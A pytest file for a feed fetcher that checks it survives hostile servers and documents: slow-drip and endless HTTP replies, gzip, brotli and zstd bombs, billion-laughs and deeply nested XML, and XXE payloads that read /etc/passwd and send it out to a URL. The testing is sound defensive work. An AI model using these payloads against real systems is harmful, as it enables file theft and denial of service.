"""Servers made to hurt, and a good one beside them: bounded time and memory, one reason, and the batch goes on.

`pytest -s tests/sources/test_hostile_answers.py` prints what each did. Documents made to hurt are pulled and parsed in
a process of their own, whose memory is measured from outside; `test_feed_hostile.py` has the small ones.
"""

import asyncio
import gzip
import ssl
import sys
import time
import tracemalloc
from collections.abc import Callable, Iterator
from concurrent.futures import ProcessPoolExecutor
from multiprocessing import get_context
from pathlib import Path
from typing import Any

import brotli
import httpx
import pytest

from contentsync.bot.texts import say_reason
from contentsync.errors import NotAFeed, SourceError
from contentsync.sources.base import Document, Fetched, SourceRef
from contentsync.sources.feed import FeedSource
from contentsync.sources.http import MAX_BODY_BYTES, fetch, open_client
from contentsync.sources.pages import page_text, read_page
from contentsync.sources.sites import marked_feeds
from tests.fakes.web import FakeWeb, Reply, Request, self_signed

if sys.version_info >= (3, 14):
    from compression import zstd
else:
    from backports import zstd

_brotli: Any = brotli  # it has no types
GOOD = b"<rss version='2.0'><channel><title>good</title><item><guid>1</guid><title>a</title></item></channel></rss>"
TOTAL_SECONDS = 1.0
PATIENT_SECONDS = 10.0
"""For servers that are to fail by something else than time, on however busy a machine."""
MAX_TRACED_BYTES = 45_000_000  # a body of 10 MB, its copy, and what asyncio holds
HEAD = b"HTTP/1.1 200 OK\r\n"
GZIP = (("Content-Encoding", "gzip"),)
NO_HTTP = "the answer is not valid HTTP"


def chunk(data: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(data), data)


def endless(head: bytes, again: bytes, pause_seconds: float = 0) -> Reply:
    return Reply(raw=HEAD + head, again=again, again_seconds=pause_seconds)


def bomb(millions: int) -> bytes:
    """Gzip data that becomes so many million spaces."""
    return gzip.compress(b" " * 1_000_000) * millions


LENGTH = b"Content-Length: 5\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
MANY = b"".join(b"X-%d: 1\r\n" % number for number in range(100_000))

# What the server does, the class of the failure and its detail; both empty where how it fails is a matter of chance.
SERVERS: dict[str, tuple[Reply, str, str]] = {
    "silence": (Reply(hang=True), "TimedOut", ""),
    "body, a byte at a time": (Reply(GOOD, drip_bytes=1, drip_seconds=0.1), "TimedOut", ""),
    "chunks, a byte at a time": (Reply(GOOD, drip_bytes=1, drip_seconds=0.1, chunked=True), "TimedOut", ""),
    "header, a byte at a time": (endless(b"X: ", b"x", 0.1), "TimedOut", ""),
    "headers, a line at a time": (endless(b"", b"X: 1\r\n", 0.1), "TimedOut", ""),
    "status line, a byte at a time": (Reply(raw=b"HTTP/1.1 200 O", again=b"O", again_seconds=0.1), "TimedOut", ""),
    "endless status line": (Reply(raw=b"HTTP/1.1 200 ", again=b"O" * 60_000), "Unreachable", NO_HTTP),
    "endless header": (endless(b"X: ", b"x" * 60_000), "Unreachable", NO_HTTP),
    "endless header name": (endless(b"X", b"x" * 60_000), "Unreachable", NO_HTTP),
    "endless headers": (endless(b"", b"X: 1\r\n" * 10_000), "Unreachable", NO_HTTP),
    "100,000 headers": (Reply(raw=HEAD + MANY + b"\r\n"), "Unreachable", NO_HTTP),
    "a header of 10 MB": (Reply(raw=HEAD + b"X: " + b"x" * 10_000_000 + b"\r\n\r\n"), "Unreachable", NO_HTTP),
    "endless body": (endless(b"\r\n", b"<a>" * 20_000), "TooLarge", "more than 10000000 bytes"),
    "endless line": (endless(b"\r\n<rss><title>", b"a" * 60_000), "TooLarge", "more than 10000000 bytes"),
    "endless chunks": (endless(CHUNKED, chunk(b"a" * 60_000)), "TooLarge", "more than 10000000 bytes"),
    "endless tiny chunks": (endless(CHUNKED, chunk(b"a") * 10_000), "TimedOut", ""),
    "endless chunk extension": (endless(CHUNKED + b"1;", b"x" * 60_000), "", ""),
    "endless trailers": (endless(CHUNKED + chunk(GOOD) + b"0\r\n", b"X: 1\r\n" * 10_000), "", ""),
    "endless chunk size": (endless(CHUNKED, b"0" * 60_000), "", ""),
    "a chunk of 2^64 bytes": (Reply(raw=HEAD + CHUNKED + b"ffffffffffffffffff\r\nabc"), "Unreachable", NO_HTTP),
    "endless promises to go on": (Reply(raw=b"", again=b"HTTP/1.1 100 Continue\r\n\r\n" * 1000), "TimedOut", ""),
    "gzip bomb, 1 GB": (Reply(bomb(1000), headers=GZIP), "TooLarge", "more than 10000000 bytes"),
    "gzip bomb, endless": (endless(b"Content-Encoding: gzip\r\n\r\n", bomb(1)), "TooLarge", "more than 10000000 bytes"),
    "gzip of nothing, endless": (
        endless(b"Content-Encoding: gzip\r\n\r\n", gzip.compress(b"") * 3000),
        "Unreachable",
        "endless compression",
    ),
    "deflate of nothing, endless": (
        endless(b"Content-Encoding: deflate\r\n\r\n\x78\x9c", b"\x00\x00\x00\xff\xff" * 12_000),
        "Unreachable",
        "endless compression",
    ),
    "gzip in gzip in gzip": (
        Reply(gzip.compress(gzip.compress(bomb(200))), headers=(("Content-Encoding", "gzip, gzip, gzip"),)),
        "Unreachable",
        "unknown compression",
    ),
    "brotli bomb, 100 MB": (
        Reply(_brotli.compress(b" " * 100_000_000, quality=5), headers=(("Content-Encoding", "br"),)),
        "TooLarge",
        "more than 10000000 bytes",
    ),
    "zstd bomb, 1 GB": (
        Reply(zstd.compress(b" " * 10_000_000) * 100, headers=(("Content-Encoding", "zstd"),)),
        "TooLarge",
        "more than 10000000 bytes",
    ),
    "zstd of nothing, endless": (
        endless(b"Content-Encoding: zstd\r\n\r\n", zstd.compress(b"") * 3000),
        "Unreachable",
        "endless compression",
    ),
    "brotli in gzip": (
        Reply(gzip.compress(_brotli.compress(b" " * 9_000_000)), headers=(("Content-Encoding", "br, gzip"),)),
        "Unreachable",
        "unknown compression",
    ),
    "less than promised": (Reply(GOOD, cut_bytes=20), "Unreachable", "the answer broke off"),
    "more than promised": (Reply(raw=HEAD + LENGTH + b"\r\n" + GOOD), "", ""),
    "two lengths": (Reply(raw=HEAD + LENGTH + b"Content-Length: 50\r\n\r\n" + GOOD), "Unreachable", NO_HTTP),
    "a negative length": (Reply(raw=HEAD + b"Content-Length: -5\r\n\r\n" + GOOD), "Unreachable", NO_HTTP),
    "a length of 30 digits": (Reply(raw=HEAD + b"Content-Length: " + b"9" * 30 + b"\r\n\r\n"), "Unreachable", NO_HTTP),
    "length and chunks": (Reply(raw=HEAD + b"Content-Length: 5\r\n" + CHUNKED + chunk(GOOD)), "Unreachable", NO_HTTP),
    "HTTP/0.9": (Reply(raw=GOOD), "Unreachable", NO_HTTP),
    "no HTTP at all": (Reply(raw=b"220 mail.example ESMTP ready\r\n"), "Unreachable", NO_HTTP),
    "noise": (Reply(raw=bytes(range(256)) * 100), "Unreachable", NO_HTTP),
    "NUL in a header": (Reply(raw=HEAD + b"X: a\x00b\r\n\r\n"), "Unreachable", NO_HTTP),
    "closed at once": (Reply(raw=b""), "Unreachable", "connection dropped"),
    "status 999": (Reply(status=999), "ServerFailed", "HTTP 999"),
    "101": (Reply(raw=b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n"), "", ""),
}  # fmt: skip


@pytest.fixture(scope="module")
def context() -> ssl.SSLContext:
    return httpx.create_ssl_context(trust_env=False)


async def outcome(client: httpx.AsyncClient, url: str, total_seconds: float = PATIENT_SECONDS) -> tuple[str, str]:
    """The class of what came and its detail; every failure has a sentence for the person."""
    try:
        return type(await fetch(client, SourceRef(url), total_seconds=total_seconds)).__name__, ""
    except SourceError as error:
        print(f"\n{say_reason(error.reason_key, error.params)}", end="")
        return type(error).__name__, error.detail


async def good_answers(client: httpx.AsyncClient, url: str, ended: asyncio.Event) -> list[float]:
    """How long a good feed took each time, asked for over and over while something else goes on."""
    seconds = []
    while not ended.is_set():
        started = time.monotonic()
        fetched = await fetch(client, SourceRef(url), total_seconds=PATIENT_SECONDS)
        assert isinstance(fetched, Fetched)
        assert fetched.body == GOOD
        seconds.append(time.monotonic() - started)
        await asyncio.sleep(0.01)
    return seconds


@pytest.mark.parametrize("name", SERVERS)
async def test_a_hostile_server_costs_little_and_stops_nobody(name: str, context: ssl.SSLContext) -> None:
    reply, expected, detail = SERVERS[name]
    limit_seconds = PATIENT_SECONDS if expected not in ("TimedOut", "") else TOTAL_SECONDS
    async with FakeWeb() as web, open_client(allow_private_networks=True, ssl_context=context) as client:
        web.handle("/bad", lambda _: reply)
        web.serve("/good", GOOD)
        ended = asyncio.Event()
        beside = asyncio.create_task(good_answers(client, web.url("/good"), ended))
        await asyncio.sleep(0.02)
        tracemalloc.start()
        started = time.monotonic()
        try:
            got = await outcome(client, web.url("/bad"), limit_seconds)
            taken, (_, peak) = time.monotonic() - started, tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
            ended.set()
        waits = await beside
    line = f"{got[0]} {got[1]}"
    print(
        f"\n{name:<32}{line:<44}{taken:5.2f} s {peak / 1e6:6.1f} MB  good: {len(waits)}, ≤ {max(waits):.2f} s", end=""
    )
    assert got == (expected, detail) or not expected
    assert taken < limit_seconds + 4
    assert peak < MAX_TRACED_BYTES
    assert waits


async def test_ever_new_redirects_end(context: ssl.SSLContext) -> None:
    def further(request: Request) -> Reply:
        number = int(request.target.partition("=")[2])
        return Reply(status=302, headers=(("Location", f"/to?n={number + 1}"), ("X", "x" * 10_000)))

    async with FakeWeb() as web, open_client(allow_private_networks=True, ssl_context=context) as client:
        web.handle("/to", further)
        assert (await outcome(client, web.url("/to?n=0")))[0] == "TooManyRedirects"
        assert len(web.requests) == 11


async def test_slow_redirects_share_one_time_limit(context: ssl.SSLContext) -> None:
    async with FakeWeb() as web, open_client(allow_private_networks=True, ssl_context=context) as client:
        for step in range(9):
            web.reply(f"/{step}", Reply(status=302, headers=(("Location", f"/{step + 1}"),), delay_seconds=0.3))
        started = time.monotonic()
        assert (await outcome(client, web.url("/0"), TOTAL_SECONDS))[0] == "TimedOut"
        assert time.monotonic() - started < 2.7


async def test_a_tls_handshake_that_never_ends(context: ssl.SSLContext) -> None:
    async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.read(-1)
        writer.close()

    server = await asyncio.start_server(listen, "127.0.0.1", 0)
    async with server, open_client(allow_private_networks=True, ssl_context=context) as client:
        port = server.sockets[0].getsockname()[1]
        assert (await outcome(client, f"https://127.0.0.1:{port}/", TOTAL_SECONDS))[0] == "TimedOut"


@pytest.mark.parametrize(
    ("names", "days"), [(["127.0.0.1"], 1), (["127.0.0.1"], -1), (["example.com"], 1)], ids=["own", "expired", "other"]
)
async def test_an_invalid_certificate_has_its_reason(
    names: list[str], days: int, tmp_path: Path, context: ssl.SSLContext
) -> None:
    server_context, _ = self_signed(tmp_path, *names, days=days)
    async with (
        FakeWeb(tls=server_context) as web,
        open_client(allow_private_networks=True, ssl_context=context) as client,
    ):
        assert await outcome(client, web.url("/")) == ("Unreachable", "TLS certificate is not valid")
        assert web.requests == []


def rss(items: bytes, prolog: bytes = b"") -> bytes:
    return prolog + b'<rss version="2.0"><channel><title>t</title>' + items + b"</channel></rss>"


def full(unit: bytes) -> bytes:
    """So many of these as the fetcher lets through."""
    return unit * ((MAX_BODY_BYTES - 200) // len(unit))


def laughs(levels: int) -> bytes:
    names = [b"<!ENTITY l0 'ha'>"]
    names += [b'<!ENTITY l%d "' % level + b"&l%d;" % (level - 1) * 10 + b'">' for level in range(1, levels)]
    doctype = b"<!DOCTYPE x [" + b"\n".join(names) + b"]>"
    return rss(b"<item><title>&l%d;</title><guid>1</guid></item>" % (levels - 1), doctype)


JSON = b'{"version":"https://jsonfeed.org/version/1","items":'

DOCUMENTS: dict[str, Callable[[], bytes]] = {
    "billion laughs": lambda: laughs(10),
    "quadratic blow-up": lambda: rss(
        b"<item><title>" + b"&a;" * 500_000 + b"</title></item>",
        b'<!DOCTYPE x [<!ENTITY a "' + b"x" * 500_000 + b'">]>',
    ),
    "declarations without end": lambda: b"<!DOCTYPE x [" + full(b"<!ENTITY a 'b'>") + b"]>",
    "100,000 levels": lambda: rss(b"<item>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</item>"),
    "3,000,000 levels, open": lambda: rss(b"<item>" + full(b"<a>")),
    "a million empty entries": lambda: rss(b"<item/>" * 1_000_000),
    "300,000 equal entries": lambda: rss(full(b"<item><title>a</title></item>")),
    "300,000 different entries": lambda: rss(b"".join(b"<item><guid>%d</guid></item>" % n for n in range(300_000))),
    "a million JSON items": lambda: JSON + b"[" + full(b'{"id":1},') + b"{}]}",
    "deep JSON": lambda: JSON + full(b"["),
    "one line": lambda: rss(b"<item><title>" + full(b"a") + b"</title></item>"),
    "NUL bytes": lambda: b"\0" * MAX_BODY_BYTES,
    "NUL bytes in a title": lambda: rss(b"<item><title>a\0\0b</title><guid>1</guid></item>"),
    "nothing but <": lambda: rss(full(b"<")),
    "a million attributes": lambda: rss(b"<item " + full(b"a='b' ") + b"/>"),
    "namespaces": lambda: rss(b"".join(b'<x:a xmlns:x="http://e/%d"/>' % n for n in range(50_000))),
    "UTF-8 that says it is UTF-16": lambda: b'<?xml version="1.0" encoding="utf-16"?>' + GOOD,
    "a charset that is none": lambda: b'<?xml version="1.0" encoding="x-evil-9"?>' + GOOD,
    "gzip file in gzip file": lambda: gzip.compress(gzip.compress(b"<" * 50_000_000)),
    "page, deep": lambda: full(b"<div>"),
    "page, links": lambda: full(b"<a href=/rss>rss</a>"),
    "page, declared feeds": lambda: full(b'<link rel=alternate type=application/rss+xml href=/rss>'),
    "page, paragraphs": lambda: full(b"<p>"),
    "page, one tag": lambda: b"<a " + full(b"a='b' ") + b">",
}  # fmt: skip


def peak_bytes() -> int:
    """The most memory this process has held. What `getrusage` tells begins with the parent's, also after exec."""
    lines = Path("/proc/self/status").read_text().splitlines()
    return next(int(line.split()[1]) * 1024 for line in lines if line.startswith("VmHWM"))


def read_alone(body: bytes) -> tuple[str, float, int]:
    """Read a document as feed and as page: what it is, the processor's seconds, the peak in bytes so far."""
    started = time.process_time()
    fetched = Fetched("https://bad.example/feed", 200, (), body, "")
    try:
        told = f"{len(FeedSource().parse(fetched).entries)} entries"
    except NotAFeed as error:
        told = error.found
    read_page(fetched)
    marked_feeds(fetched.url, page_text(fetched))
    peak = peak_bytes()
    return told, time.process_time() - started, peak


@pytest.fixture(scope="module")
def alone() -> Iterator[ProcessPoolExecutor]:
    with ProcessPoolExecutor(1, mp_context=get_context("spawn")) as executor:
        yield executor


@pytest.mark.parametrize("name", DOCUMENTS)
async def test_a_hostile_document_costs_little(name: str, context: ssl.SSLContext, alone: ProcessPoolExecutor) -> None:
    body = await asyncio.to_thread(DOCUMENTS[name])
    async with FakeWeb() as web, open_client(allow_private_networks=True, ssl_context=context) as client:
        web.serve("/bad", body)
        web.serve("/good", GOOD)
        bad, good = await asyncio.gather(*(fetch(client, SourceRef(web.url(path))) for path in ("/bad", "/good")))
    assert isinstance(bad, Fetched)
    assert isinstance(good, Fetched)
    told, seconds, peak = await asyncio.get_running_loop().run_in_executor(alone, read_alone, bad.body)
    assert len(FeedSource().parse(good).entries) == 1
    print(f"\n{name:<32}{len(body) / 1e6:5.1f} MB  {told:<40}{seconds:5.2f} s, peak {peak / 1e6:4.0f} MB", end="")
    assert seconds < 12  # three times what the worst takes on a machine with nothing else to do
    assert peak < 600_000_000  # of which the program itself is 100 MB


EXTERNAL = """<!DOCTYPE rss [
<!ENTITY file SYSTEM "file:///etc/passwd"> <!ENTITY net SYSTEM "{url}entity">
<!ENTITY % parameter SYSTEM "{url}parameter"> %parameter;
<!ENTITY % wrapped "<!ENTITY &#37; sent SYSTEM '{url}?x=%file;'>"> %wrapped;
]>"""
INSIDE = """<?xml-stylesheet href="{url}style.xsl" type="text/xsl"?>
<rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
 xsi:noNamespaceSchemaLocation="{url}schema.xsd"><channel><title>t&file;</title>
<item><guid>1</guid><title>a&file;&net;</title><xi:include href="{url}include" parse="text"/>
<description>&lt;img src="{url}image.png">&file;</description></item></channel></rss>"""


@pytest.mark.parametrize(
    "prolog", ["", EXTERNAL, '<!DOCTYPE rss SYSTEM "{url}feed.dtd">', '<!DOCTYPE rss PUBLIC "-//x" "{url}feed.dtd">']
)
async def test_no_document_makes_us_open_a_file_or_a_connection(prolog: str) -> None:
    async with FakeWeb() as web:
        body = (prolog + INSIDE).replace("{url}", web.url("/")).encode()
        fetched = Fetched("https://bad.example/feed", 200, (), body, "")
        try:
            document = await asyncio.to_thread(FeedSource().parse, fetched)
        except NotAFeed:
            document = Document()
        await asyncio.to_thread(read_page, fetched)
        told = "".join([document.title, *(entry.title + entry.summary_html for entry in document.entries)])
        assert "root:" not in told
        assert web.connections == 0
